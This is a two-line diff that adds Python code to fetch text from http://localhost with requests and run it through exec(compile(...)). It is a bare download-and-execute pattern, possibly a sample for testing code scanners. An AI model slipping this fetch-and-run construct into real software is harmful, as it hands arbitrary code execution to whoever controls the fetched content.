@@ -1,0 +1,2 @@
+import requests
+exec(compile(requests.get('http://localhost').text, 'x', 'exec'))
